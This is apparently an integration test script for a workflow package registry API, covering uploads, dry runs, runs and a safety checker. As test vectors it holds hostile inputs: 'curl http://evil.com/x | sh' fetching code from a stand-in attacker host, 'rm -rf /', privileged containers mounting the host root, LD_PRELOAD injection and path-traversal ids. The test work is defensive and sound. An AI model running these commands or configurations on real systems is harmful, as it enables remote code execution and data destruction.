#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# The package registry's API: its shapes, its words, its vectors, and what is done differently because it has to be true.
. "$(dirname "$0")/lib.sh"

# is_json EXPRESSION WHAT: jq's opinion on the answer
is_json() { jq -e "$1" "$BODY" > /dev/null 2>&1; local r=$?; [ $r = 0 ] || { echo "# status $STATUS"; head -c 1500 "$BODY" | sed 's/^/# body: /'; echo; }; result $r "$2"; }
answers() { [ "$STATUS" = "$1" ]; local r=$?; [ $r = 0 ] || { echo "# status $STATUS"; head -c 1500 "$BODY" 2> /dev/null | sed 's/^/# body: /'; echo; }; result $r "$2"; }
header() { grep -i "^$1:" "$HEADERS" | head -n 1 | sed 's/^[^:]*: *//' | tr -d '\r'; }
upload() { http POST /workflows -F "file=@$1;type=application/x-yaml"; }
dry() { local id=$1 query=$2; shift 2; http POST "/workflows/$id/dry-run$query" "$@"; }
problem() { is_json '(.detail | type) == "string" and (.detail | length) > 0 and .status == '"$STATUS" "$1: says why"; }

serve_start --wait=20s --grace=1s || { finish; exit; }

# ---- packages
wpk hello
upload hello.wpk.yaml
answers 200 'an upload answers 200'
is_json '. == {message: .message, workflow_id: "hello-1.0.0", status: "registered"} and (.message | type) == "string"' 'in its shape'
wpk other - <<'YAML'
    - {name: hello, type: shell, config: {command: "echo hello"}}
YAML
sed -i 's/  author: tests/  author: tests\n  tags: [backup, nightly]\n  created: "2025-10-25"\n  signature: "c2lnbmF0dXJl"/; s/mode: manual/mode: auto/; s/{type: shell}/{type: k8s}/' other.wpk.yaml
upload other.wpk.yaml
answers 200 'a signed one as well'
http GET /workflows
is_json '.total == 2 and (.workflows | map(.id)) == ["hello-1.0.0", "other-1.0.0"]' 'the list'
is_json '.workflows[1] | .name == "other" and .version == "1.0.0" and .description == "a package of the tests" and .author == "tests" and .created == "2025-10-25" and .tags == ["backup", "nightly"] and .safety_mode == "auto" and .runtime_type == "k8s" and (.file_path | test("^[^/]+$")) and .signature == "c2lnbmF0dXJl" and (.registered_at | test("Z$"))' 'an item'
is_json '.workflows[0].signature == null and (.workflows[0] | has("wpk_content") | not)' 'an unsigned one'
for filter in 'tag=nightly:other' 'tag=none:' 'runtime=k8s:other' 'runtime=shell:hello' 'safety_mode=manual:hello' 'tag=backup&safety_mode=manual:'; do
	http GET "/workflows?${filter%%:*}"
	is_json '(.workflows | map(.name) | join(" ")) == "'"${filter#*:}"'" and .total == (.workflows | length)' "filter ${filter%%:*}"
done
http GET /workflows/hello-1.0.0
answers 200 'one of them'
jq -j .wpk_content "$BODY" > content; ok 'with its content, byte for byte' cmp content hello.wpk.yaml
sed -i 's/a package of the tests/changed/' hello.wpk.yaml; upload hello.wpk.yaml; http GET /workflows/hello-1.0.0
is_json '.description == "changed"' 'uploaded again, it is replaced'
http GET /workflows/none-1.0.0; answers 404 'an unknown one'; problem 'an unknown one'
for id in '..%2f..%2fetc%2fpasswd' '.hidden' 'a%20b' "$(printf 'a%.0s' $(seq 300))" '%00' 'a%2fb'; do
	http GET "/workflows/$id"
	[ "$STATUS" = 400 ] || [ "$STATUS" = 404 ]; result $? "an id that is none: ${id:0:20}"
done
printf 'a: [' > bad.wpk.yaml; upload bad.wpk.yaml; answers 400 'no YAML'; problem 'no YAML'
is_json '.detail | test("bad.wpk.yaml:1:")' 'and where'
printf 'apiVersion: v1\nkind: WorkflowPackage\nmetadata: {name: "A B", version: 1.0.0}\nspec: {}\n' > bad.wpk.yaml
upload bad.wpk.yaml; answers 400 'a wrong schema'; is_json '(.errors | length) > 1 and (.errors[0].detail | type) == "string"' 'all that is wrong'
http POST /workflows -F other=x; answers 422 'no file'; problem 'no file'
mkdir b && cp hello.wpk.yaml b/ && tar -czf b.tar.gz -C b hello.wpk.yaml; upload b.tar.gz; answers 400 'a bundle'; problem 'a bundle'
name=-$(printf 'a%.0s' $(seq 127)) version=$(printf '9%.0s' $(seq 124)).0.0	# the longest id that a valid package has, and the oddest beginning
sed "s/name: hello\$/name: $name/; s/version: .*/version: $version/" hello.wpk.yaml > long.wpk.yaml; upload long.wpk.yaml; answers 200 'a very long name'
http GET "/workflows/$name-$version"; answers 200 'is found again'
dry "$name-$version" ''; is_json '.valid == true' 'and run'
http DELETE "/workflows/$name-$version"; answers 200 'and deleted'
sed "s/description: .*/description: $(printf 'long %.0s' $(seq 4000))/" hello.wpk.yaml > long.wpk.yaml; upload long.wpk.yaml; answers 400 'a very long description'; problem 'a very long description'
sed "s/  author: .*/  author: a\n  tags: [$(seq -s, 101)]/" hello.wpk.yaml > long.wpk.yaml; upload long.wpk.yaml; answers 400 'very many tags'
http POST /workflows/hello-1.0.0/sign; answers 501 'signing'; problem 'signing'
http GET /workflows/hello-1.0.0; is_json '.signature == null' 'and none was made up'

# ---- the vectors of the registry's rules, through the API
# vector WHAT MODE FOUND SCORE DECISION APPROVAL: the step from standard input in a package
vector() {
	printf '%s\n' "apiVersion: v1" "kind: WorkflowPackage" "metadata: {name: v, version: 1.0.0, description: d, author: a}" \
		"spec:" "  runtime: {type: shell}" "  safety: {mode: $2}" "  handlers:" "  - name: h" "    steps:" "    - name: s" > v.wpk.yaml
	sed 's/^/      /' >> v.wpk.yaml
	dry v-1.0.0 '?mode=static' -F file=@v.wpk.yaml
	is_json ".workflow_id == \"v-1.0.0\" and .score == $4 and (.validation | [(.issues | map(.rule_id) | sort | join(\" \")), .risk_score, .policy_decision, .approval_required, .valid]) == [(\"$3\" | split(\" \") | sort | join(\" \")), $4, \"$5\", $6, (\"$5\" != \"block\")]" "$1"
}
vector "a privileged container" manual "privileged_container" 37 approve true <<'YAML'
container: {image: "a:1", securityContext: {privileged: true}, resources: {limits: {cpu: 1, memory: 1Gi}}}
YAML
is_json '.validation.issues[0] | .severity == "critical" and .path == "spec.handlers[0].steps[0].container.securityContext.privileged" and .cwe == "CWE-250" and (.suggestion | type) == "string" and .line == 11' 'its issue'
is_json '.approval_request | .workflow_id == "v-1.0.0" and .risk_score == 37 and (.issues | length) == 1 and (.justification | type) == "string" and (.requested_by | type) == "string" and .requested_at < .expires_at' 'the request for an approval'
is_json '.recommendation == {can_execute: false, requires_approval: true, safety_mode: "manual"}' 'the recommendation'
is_json '.valid == false and (.detail | test("refuses"))' 'our own policy is stricter, and says so'
vector "the same, automatically" auto "privileged_container" 37 review true <<'YAML'
container: {image: "a:1", securityContext: {privileged: true}, resources: {limits: {cpu: 1, memory: 1Gi}}}
YAML
unsafe="privileged_container dangerous_capabilities host_path_mount excessive_resources excessive_resources insecure_image"
vector "the unsafe container of the public tests" auto "$unsafe" 100 block true <<'YAML'
container:
  image: ubuntu:latest
  securityContext: {privileged: true, capabilities: {add: [CAP_SYS_ADMIN]}}
  volumeMounts: [{name: host-root, mountPath: /}]
  resources: {limits: {cpu: "8", memory: 16Gi}}
YAML
is_json '(.validation.errors | length) == 3 and (.validation.errors[0] | test(" at spec.handlers")) and (.validation.warnings | length) == 3 and .category.risk_level == "critical" and .category.resource_types == ["container"] and .category.automation_level == "fully_automated"' 'errors, warnings, category'
vector "a download to a shell" auto "external_network" 18 approve false <<'YAML'
shell: {command: "curl http://evil.com/x | sh"}
YAML
vector "the root is deleted" auto "" 0 approve false <<'YAML'
shell: {command: "rm -rf /"}
YAML
vector "a key" auto "hardcoded_secrets" 21 approve false <<'YAML'
shell: {command: "export API_KEY=abc"}
YAML
vector "a privileged pod" auto "" 0 approve false <<'YAML'
kubernetes: {apiVersion: v1, kind: Pod, metadata: {name: p}, spec: {containers: [{name: c, securityContext: {privileged: true}}], volumes: [{name: h, hostPath: {path: /}}]}}
YAML
vector "memory in bytes" auto "" 0 approve false <<'YAML'
container: {image: "a:1", resources: {limits: {cpu: 1, memory: 9663676416}}}
YAML
vector "rights over the cluster" manual "cluster_permissions" 19 approve false <<'YAML'
kubernetes: {apiVersion: rbac.authorization.k8s.io/v1, kind: ClusterRole, metadata: {name: r}}
YAML
vector "commands are not looked into" manual "missing_limits insecure_image" 20 approve false <<'YAML'
container: {image: a, command: [sh, -c, "curl http://evil.com/x | sh"]}
YAML
for example in "$repo"/wpk-examples/{backup-verify,requeue-job,restart-unhealthy,rotate-secret,scale-on-latency}.wpk.yaml; do
	[ -f "$example" ] || continue
	dry x-1.0.0 '?mode=static' -F "file=@$example"
	is_json '.score == 0 and .validation == {valid: true, risk_score: 0, issues: [], policy_decision: "approve", approval_required: false, errors: [], warnings: []}' "the registry's own example $(basename "$example" .wpk.yaml)"
done

# ---- dry runs
dry hello-1.0.0 ''
answers 200 'a dry run without a body'
is_json '.valid == true and .workflow_id == "hello-1.0.0" and (.dry_run_id | test("^dryrun-hello-1.0.0-[0-9]+$")) and .verdict == "verified"' 'it was valid'
is_json '.dry_run_result | .status == "success" and .error == null and .sandbox == "container" and (.results | length) == 1' 'it was executed'
is_json '.dry_run_result.results[0] | .status == "success" and .executed == true and .dry_run == true and .stdout == "hello\n" and .returncode == 0 and .step == "hello"' 'its step'
is_json '.sandbox_type == "container" and .execution_time > 0 and '"$(memory_peak .resource_usage.memory_peak_bytes)"' and .score == 0 and .approval_request == null and .recommendation.can_execute == true and .effects.files.created == 0' 'what it took, and did'
is_json '[has("valid", "workflow_id", "validation", "category", "approval_request", "recommendation", "timestamp", "dry_run_id", "dry_run_result", "sandbox_type", "execution_time", "resource_usage", "score")] | all' 'all keys of all shapes'
grep -q risk_score "$BODY"; result $? 'what the end-to-end script looks for'
run_id=$(body .run_id)
http GET "$(body .links.self)"; is_json '.run_id == "'"$run_id"'" and .state == "ended" and .origin == "registry" and .workflow_id == "hello-1.0.0"' 'the run is known under /v1'
wpk greet - <<'YAML'
    - {name: hello, type: shell, config: {command: "echo hello ${NAME} ${N}; echo new > file"}}
    - {name: call, type: api, config: {url: "https://internal/x", method: POST}}
YAML
upload greet.wpk.yaml
dry greet-1.0.0 '' -H 'Content-Type: application/json' -d '{"NAME": "you", "N": 3}'
is_json '.valid == true and .dry_run_result.results[0].stdout == "hello you 3\n" and .effects.files.created == 1' 'with parameters'
is_json '.dry_run_result.results[1] | .status == "simulated" and .executed == false and (.message | test("^simulated"))' 'what was simulated is named so'
dry greet-1.0.0 ''
is_json '.valid == false and .dry_run_result.status == "error" and (.dry_run_result.error | test("parameter .NAME. has no value")) and (.detail | test("N. has no value"))' 'without its parameters'
for bad in '[1]' '{"N": [1]}' '{"N": null}' '{"PATH": "/tmp"}' '{"LD_PRELOAD": "x"}' '{"a b": "x"}' '"x"' '{"N": {"x": 1}}' '{"N": "a\u0000b"}' '{'; do
	dry greet-1.0.0 '' -d "$bad"
	answers 400 "parameters that are none: $bad"
done
dry greet-1.0.0 '' -F file=@hello.wpk.yaml -F 'parameters={"X": "y"}'
is_json '.valid == true and .workflow_id == "hello-1.0.0"' 'a package with the request'
dry test '' -F file=@hello.wpk.yaml
is_json '.valid == true' 'under any name'
dry greet-1.0.0 '' -F 'parameters={"NAME": "form", "N": true}'
is_json '.dry_run_result.results[0].stdout == "hello form true\n"' 'parameters in a form'
dry test '' -F file=@b.tar.gz
is_json '.valid == true and .workflow_id == "hello-1.0.0"' 'a bundle'
dry hello-1.0.0 '?mode=static'
is_json '.valid == true and .dry_run_result == null and .run_id == null' 'the static part only'
dry hello-1.0.0 '?mode=elvish'; answers 400 'another mode'
dry none-1.0.0 ''; answers 404 'an unknown package'; problem 'an unknown package'
dry test '' -F file=@bad.wpk.yaml
answers 200 'an invalid package is an answer'
is_json '.valid == false and .validation.valid == false and .score == 100 and (.validation.errors | length) > 0 and .run_id == null and .dry_run_result.status == "error" and (.detail | test("invalid"))' 'it was not executed'
wpk fails - <<'YAML'
    - {name: no, type: shell, config: {command: "echo sorry >&2; exit 3"}}
    - {name: never, type: shell, config: {command: "echo never"}}
YAML
dry test '' -F file=@fails.wpk.yaml
is_json '.valid == false and .validation.valid == true and .verdict == "failed" and .dry_run_result.status == "error" and (.dry_run_result.error | test("exit status 3"))' 'one that fails'
is_json '.dry_run_result.results | .[0].status == "error" and .[0].returncode == 3 and .[0].stderr == "sorry\n" and .[1].status == "skipped"' 'its steps'
wpk chatty - <<'YAML'
    - {name: much, type: shell, config: {command: "yes é | head -c 200000"}}
YAML
dry test '' -F file=@chatty.wpk.yaml
is_json '.valid == true and .dry_run_result.results[0].truncated == true and (.dry_run_result.results[0].stdout | length) < 4097 and (.dry_run_result.results[0].stdout | contains("\ufffd") | not)' 'much output is cut between characters'

# ---- later
wpk slow - <<'YAML'
    - {name: wait, type: shell, config: {command: "sleep 30"}}
YAML
dry test '' -F file=@slow.wpk.yaml -H 'Prefer: respond-async'
answers 202 'asked for an answer at once'
is_json '.valid == null and .validation.valid == true and (.run_id | test("^r-")) and (.dry_run_result.status == "queued" or .dry_run_result.status == "running")' 'what is known'
ok 'where to look' test "$(header Location)" = "/v1/runs/$(body .run_id)"
ok 'the preference was honoured' test "$(header Preference-Applied)" = respond-async
slow=$(body .run_id)
http GET "/v1/runs/$slow"; ok 'it is there' test "$STATUS" = 200
http POST "/v1/runs/$slow/cancel"
HTTP_TIMEOUT=5; dry test '' -F file=@slow.wpk.yaml; HTTP_TIMEOUT=60	# this client goes away
http GET /healthz; answers 200 'a client that goes away'
for _ in $(seq 300); do http GET '/v1/runs?state=running'; [ "$(body '.runs | length')" -ge 1 ] && break; sleep 0.1; done
is_json '(.runs | length) >= 1' 'its run goes on'
for id in $(body '.runs[].run_id'); do http POST "/v1/runs/$id/cancel"; done

# ---- runs
http GET '/workflows/hello-1.0.0/runs'
is_json '.workflow_id == "hello-1.0.0" and .page == 1 and .limit == 20 and .total == (.runs | length) and .total >= 2' 'the runs of a package'
is_json '.runs | map(select(.run_id == "'"$run_id"'"))[0] | .status == "completed" and (.duration_ms | type) == "number" and (.created_at | test("Z$"))' 'one of them'
for i in 1 2 3; do
	http POST /workflows/other-1.0.0/runs/notify -H 'Content-Type: application/json' -d '{"run_id": "ext-'$i'", "status": "running", "duration_ms": 0}'
done
is_json '. == {message: .message, workflow_id: "other-1.0.0", run_id: "ext-3", status: "updated"}' 'told of runs of others'
http POST /workflows/other-1.0.0/runs/notify -d '{"run_id": "ext-3", "status": "success", "duration_ms": 1234}'
http GET '/workflows/other-1.0.0/runs?limit=2'
is_json '.total == 3 and (.runs | length) == 2 and .runs[0] == {run_id: "ext-3", status: "success", duration_ms: 1234, created_at: .runs[0].created_at}' 'the total counts all pages'
http GET '/workflows/other-1.0.0/runs?limit=2&page=2'
is_json '.total == 3 and .page == 2 and (.runs | map([.run_id, .status])) == [["ext-1", "running"]]' 'the second page'
http GET /workflows/other-1.0.0; is_json '.latest_run_id == "ext-3" and .latest_run_status == "success" and .total_runs == 3 and (.latest_run_at | test("Z$"))' 'the item knows'
http GET /workflows/hello-1.0.0; is_json '.latest_run_status == "completed"' 'in the words of its clients'
for query in 'limit=0' 'limit=101' 'limit=x' 'page=0' 'page=-1'; do http GET "/workflows/other-1.0.0/runs?$query"; answers 422 "no page: $query"; done
http GET /workflows/none-1.0.0/runs; answers 404 'runs of an unknown one'
http POST /workflows/none-1.0.0/runs/notify -d '{"run_id": "x", "status": "completed"}'; answers 404 'told of runs of an unknown one'
for bad in '{}' '[]' 'x' '{"run_id": "../x", "status": "completed"}' '{"run_id": "x", "status": ""}' '{"run_id": "x", "status": "a\nb"}' '{"run_id": "x", "status": "ok", "duration_ms": -1}' '{"run_id": "x", "status": "ok", "duration_ms": "1"}'; do
	http POST /workflows/other-1.0.0/runs/notify -d "$bad"; answers 400 "no notice: $bad"
done
http DELETE /workflows/other-1.0.0; answers 200 'forgotten'; is_json '(keys == ["message"]) and (.message | test("other-1.0.0"))' 'in its shape'
http GET /workflows/other-1.0.0; answers 404 'and gone'
http DELETE /workflows/other-1.0.0; answers 404 'twice'

# ---- a registry elsewhere: the one that runs is the registry of another
near=$BASE near_pid=$SERVE_PID
"$SANDBOX_RUNNER" serve --listen=127.0.0.1:0 --data-dir="$SERVE_DATA/far" --state-dir="$SERVE_DATA/far-state" --config=none --registry="$near/" > "$SERVE_DATA/far.log" 2>&1 &
far_pid=$!
for _ in $(seq 600); do BASE=$(sed -n 's/^listening on \(http:.*\)$/\1/p' "$SERVE_DATA/far.log"); [ -n "$BASE" ] && break; sleep 0.05; done
http POST /workflows -F file=@hello.wpk.yaml; answers 409 'packages are registered there'; problem 'packages are registered there'
http GET /workflows; answers 409 'and listed there'
http DELETE /workflows/hello-1.0.0; answers 409 'and deleted there'
http GET /workflows/hello-1.0.0; is_json '.id == "hello-1.0.0" and (.wpk_content | test("WorkflowPackage"))' 'one is fetched'
dry hello-1.0.0 ''
is_json '.valid == true and .dry_run_result.results[0].stdout == "hello\n"' 'fetched and run'
far_run=$(body .run_id)
dry hello-1.0.0 '?mode=static'; is_json '.valid == true and .run_id == null' 'fetched and judged'
dry none-1.0.0 ''; answers 502 'one that is not there either'; problem 'one that is not there either'
BASE=$near
for _ in $(seq 300); do http GET '/workflows/hello-1.0.0/runs'; jq -e '.runs | map(.run_id) | index("'"$far_run"'")' "$BODY" > /dev/null && break; sleep 0.1; done
is_json '.runs | map(select(.run_id == "'"$far_run"'"))[0].status == "completed"' 'and the registry was told'
kill "$far_pid"; wait "$far_pid"
SERVE_PID=$near_pid
serve_stop

# ---- not everybody may do everything, and not everything at once
serve_start --runs=1 --queue=1 --wait=1s --grace=1s
for _ in 1 2 3 4 5; do
	dry test '' -F file=@slow.wpk.yaml -H 'Prefer: respond-async'
	[ "$STATUS" = 429 ] && break
done
answers 429 'a full queue'; problem 'a full queue'
ok 'when to try again' test "$(header Retry-After)" -ge 1
for _ in $(seq 200); do http GET '/v1/runs?state=running'; [ "$(body '.runs | length')" = 1 ] && break; sleep 0.1; done
for id in $(body '.runs[].run_id'); do http POST "/v1/runs/$id/cancel"; done
for _ in $(seq 300); do dry test '' -F file=@slow.wpk.yaml; [ "$STATUS" = 202 ] && break; sleep 0.1; done
answers 202 'the longest that is waited for'
ok 'no preference was honoured' test -z "$(header Preference-Applied)"
serve_stop
finish
